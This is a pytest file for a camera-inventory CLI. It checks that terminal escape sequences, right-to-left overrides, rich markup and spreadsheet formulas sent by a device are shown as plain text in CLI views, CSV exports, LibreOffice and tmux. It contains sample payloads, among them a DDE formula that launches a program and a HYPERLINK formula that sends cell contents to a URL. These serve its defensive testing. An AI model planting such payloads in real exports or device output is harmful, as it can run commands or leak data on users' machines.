"""What a device says reaches the terminal and the spreadsheet as inert text.

The hostile inventory's camera answers with escape sequences, rich markup and spreadsheet
formulas; every view of it, every CSV export and (where installed) LibreOffice and a real
terminal under tmux must show that text literally and act on none of it.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import shutil
import subprocess
import sys
import time
import unicodedata
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether
from scapy.utils import wrpcap
from inventory import (
    BLINK_MARKUP,
    CLEAR_SCREEN,
    DDE_FORMULA,
    HYPERLINK_FORMULA,
    LINK_MARKUP,
    MARKUP_MODEL,
    WINDOW_TITLE,
    hostile_inventory,
)

from camscan.cli import main, print_devices
from camscan.untrusted import spreadsheet_cell, terminal_text

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
TMUX = shutil.which("tmux")
# How the hostile strings read once their control characters are gone.
SHOWN_MODEL = "IPC-HDW1431T[/x]]0;camscan-owned"
SHOWN_FIRMWARE = '=HYPERLINK("http://127.0.0.1:9/?"&A2&B2,"Update")[2J[H'
VIEWS = (("devices",), ("scans",), ("findings",), ("show", "198.18.0.66"))


@pytest.fixture
def hostile_db(tmp_path) -> Path:
    path = tmp_path / "hostile.db"
    hostile_inventory(path).close()
    return path


def unsafe_characters(text: str) -> set[str]:
    """The characters of ``text`` a terminal would act on, other than the newline and tab a view lays out with."""
    return {character for character in text if character not in "\n\t"
            and unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


@pytest.mark.parametrize(("said", "shown"), [
    (WINDOW_TITLE + "x", "]0;camscan-ownedx"),
    (CLEAR_SCREEN, "[2J[H"),
    ("\x9b2J", "2J"),                                     # C1 CSI: one character, no ESC
    ("evil\u202egnp.exe", "evilgnp.exe"),                 # a right-to-left override
    ("zero\u200bwidth\ufeff", "zerowidth"),
    ("two\r\nlines\nand\ta tab\u2028", "two lines and a tab "),
    (MARKUP_MODEL, MARKUP_MODEL),                         # markup is rich's business: shown as it is
    ("Caméra 監視 ✓", "Caméra 監視 ✓"),
    (None, ""),
    (8000, "8000"),
])
def test_terminal_text_drops_control_and_format_characters(said, shown):
    assert terminal_text(said) == shown


@pytest.mark.parametrize(("value", "cell"), [
    (HYPERLINK_FORMULA, "'" + HYPERLINK_FORMULA),
    (DDE_FORMULA, "'" + DDE_FORMULA),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\0=1+1", "'\0=1+1"),
    ("  =1+1", "'  =1+1"),                               # after leading spaces
    ("DS-2CD2043G0-I;=1+1", "'DS-2CD2043G0-I;=1+1"),     # a new cell where ';' separates
    ('x",=1+1', "'x\",=1+1"),
    ("DS-2CD2043G0-I", "DS-2CD2043G0-I"),
    ("80/http,554/rtsp", "80/http,554/rtsp"),
    ("198.18.0.66", "198.18.0.66"),
    ("", ""),
    (None, None),
    (0.88, 0.88),
    (-1, -1),
    (True, True),
])
def test_spreadsheet_cell_quotes_what_could_start_a_formula_and_keeps_numbers(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize("view", VIEWS, ids=lambda view: view[0])
def test_every_view_prints_device_text_literally_without_control_characters(hostile_db, view):
    result = CliRunner().invoke(main, [*view, "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    assert not unsafe_characters(result.output)
    if view[0] != "show":
        header, *rows = result.stdout.splitlines()
        assert rows and all(row.count("\t") == header.count("\t") for row in rows), "a value changed the columns"
    expected = {"devices": [SHOWN_MODEL, SHOWN_FIRMWARE, BLINK_MARKUP], "scans": [BLINK_MARKUP],
                "findings": [LINK_MARKUP], "show": [SHOWN_MODEL, SHOWN_FIRMWARE, LINK_MARKUP, DDE_FORMULA]}
    for text in expected[view[0]]:
        assert text in result.output


def test_the_rich_table_shows_markup_in_a_model_as_text(hostile_db, monkeypatch, capsys):
    """On a terminal the devices table goes through rich: '[/x]' once made it raise MarkupError."""
    result = CliRunner().invoke(main, ["devices", "--json", "--db", str(hostile_db)])
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    monkeypatch.setenv("COLUMNS", "400")  # wide enough that no cell folds
    print_devices(json.loads(result.output), "1 device(s)")
    shown = capsys.readouterr().out
    assert SHOWN_MODEL in shown and SHOWN_FIRMWARE in shown and BLINK_MARKUP in shown
    assert not unsafe_characters(re.sub(r"\x1b\[[0-9;]*m", "", shown)), "more than rich's own colours"


def test_scan_notes_show_a_url_a_device_named_literally(tmp_path):
    """The `note:` lines at the end of a scan quote what devices said: here an SSDP LOCATION, out of
    scope, carrying a window-title sequence (replayed from a recording: nothing is sent)."""
    search = (b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\n'
              b"ST: ssdp:all\r\n\r\n")
    answer = (b"HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nUSN: uuid:0-1::upnp:rootdevice\r\n"
              b"LOCATION: http://198.19.255.77/" + WINDOW_TITLE.encode() + b"desc.xml\r\n\r\n")
    frames = [Ether(src="02:00:00:00:00:01", dst="01:00:5e:7f:ff:fa") / IP(src="198.18.0.1", dst="239.255.255.250")
              / UDP(sport=40000, dport=1900) / search,
              Ether(src="02:00:00:00:00:05", dst="02:00:00:00:00:01") / IP(src="198.18.0.5", dst="198.18.0.1")
              / UDP(sport=1900, dport=40000) / answer]
    for offset, frame in enumerate(frames):
        frame.time = 1_700_000_000 + offset / 10
    wrpcap(str(tmp_path / "ssdp.pcap"), frames)
    result = CliRunner().invoke(main, ["scan", "198.18.0.0/28", "--replay", str(tmp_path / "ssdp.pcap"),
                                       "--db", str(tmp_path / "replayed.db")])
    assert result.exit_code == 0, result.output
    assert "note: SSDP LOCATION http://198.19.255.77/]0;camscan-owneddesc.xml of 198.18.0.5 is outside scope" \
        in result.stderr
    assert not unsafe_characters(result.stderr)


def test_an_error_quoting_what_it_was_given_prints_it_literally(hostile_db):
    """An error message names what it could not find, which may have been pasted from a device's text."""
    result = CliRunner().invoke(main, ["show", f"198.18.0.67{WINDOW_TITLE}", "--db", str(hostile_db)])
    assert result.exit_code == 1
    assert "no device 198.18.0.67]0;camscan-owned in" in result.stderr
    assert not unsafe_characters(result.stderr)


def exported_csv(db: Path) -> str:
    result = CliRunner().invoke(main, ["export", "--format", "csv", "--db", str(db)])
    assert result.exit_code == 0, result.output
    return result.output


def test_csv_export_starts_no_cell_with_a_formula(hostile_db):
    rows = list(csv.DictReader(io.StringIO(exported_csv(hostile_db))))
    assert len(rows) == 1
    cells = rows[0]
    assert cells["firmware"] == "'" + HYPERLINK_FORMULA + CLEAR_SCREEN
    assert cells["manufacturer"] == "'" + DDE_FORMULA
    assert cells["confidence"] == "0.88" and cells["ip"] == "198.18.0.66"
    # An empty cell (a channel column of a device that is no channel) starts no formula.
    assert not [value for value in cells.values() if value and value[0] in "=+-@\t\r"]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (Debian package libreoffice-calc-nogui; "
                                            "scripts/setup.sh installs it)")
def test_libreoffice_evaluates_no_formula_in_the_csv_export(hostile_db, tmp_path):
    """LibreOffice Calc opens the export (as a person double-clicking it would) and saves it as xlsx:
    a formula it evaluated would be an <f> element in the sheet; every hostile value must be a plain string."""
    exported = tmp_path / "devices.csv"
    exported.write_text(exported_csv(hostile_db), encoding="utf-8")
    converted = subprocess.run(
        [SOFFICE, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless", "--convert-to", "xlsx",
         "--outdir", str(tmp_path), str(exported)],
        capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert converted.returncode == 0, converted.stderr
    with zipfile.ZipFile(tmp_path / "devices.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f" not in sheet
    assert "HYPERLINK(&quot;http://127.0.0.1:9/?&quot;&amp;A2&amp;B2" in strings
    assert "+cmd|&apos; /C calc&apos;!A0" in strings


class Tmux:
    """A private tmux server (its own socket) with one fixed-size pane per command."""

    def __init__(self, socket: Path) -> None:
        self.socket = socket

    def __call__(self, *args: str) -> str:
        done = subprocess.run([TMUX, "-S", str(self.socket), *args], capture_output=True, text=True, timeout=30)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def run(self, name: str, argv: list[str]) -> str:
        """Run ``argv`` in a new 300x60 window between two marker lines; the screen once it is done."""
        self("new-session", "-d", "-s", name, "-x", "300", "-y", "60",
             f"echo BEFORE-CAMSCAN; {shlex.join(argv)}; echo AFTER-CAMSCAN-$?; exec sleep 120")
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            screen = self("capture-pane", "-p", "-J", "-t", name)
            if "AFTER-CAMSCAN-" in screen:
                return screen
            time.sleep(0.2)
        raise AssertionError(f"{argv} did not finish in tmux:\n{screen}")


@pytest.fixture
def tmux(tmp_path):
    server = Tmux(tmp_path / "tmux.socket")
    yield server
    subprocess.run([TMUX, "-S", str(server.socket), "kill-server"], capture_output=True, timeout=30)


@pytest.mark.skipif(TMUX is None, reason="tmux is not installed (Debian package tmux; scripts/setup.sh installs it)")
@pytest.mark.parametrize("view", VIEWS, ids=lambda view: view[0])
def test_a_real_terminal_shows_device_text_literally(hostile_db, tmux, view):
    """What a person sees in a terminal: the view ran, the screen was not cleared, the window
    title is still tmux's own, and the model with its markup reads as it was sent."""
    name = f"view-{view[0]}"
    screen = tmux.run(name, [sys.executable, "-m", "camscan", *view, "--db", str(hostile_db)])
    assert "AFTER-CAMSCAN-0" in screen, screen
    assert "BEFORE-CAMSCAN" in screen, "the screen was cleared"
    assert "Traceback" not in screen and "MarkupError" not in screen
    assert "camscan-owned" not in tmux("display-message", "-p", "-t", name, "#{pane_title}")
    assert not unsafe_characters(screen)
    expected = {"devices": "IPC-HDW1431T[/x]", "scans": BLINK_MARKUP, "findings": LINK_MARKUP, "show": SHOWN_MODEL}
    assert expected[view[0]] in screen, screen
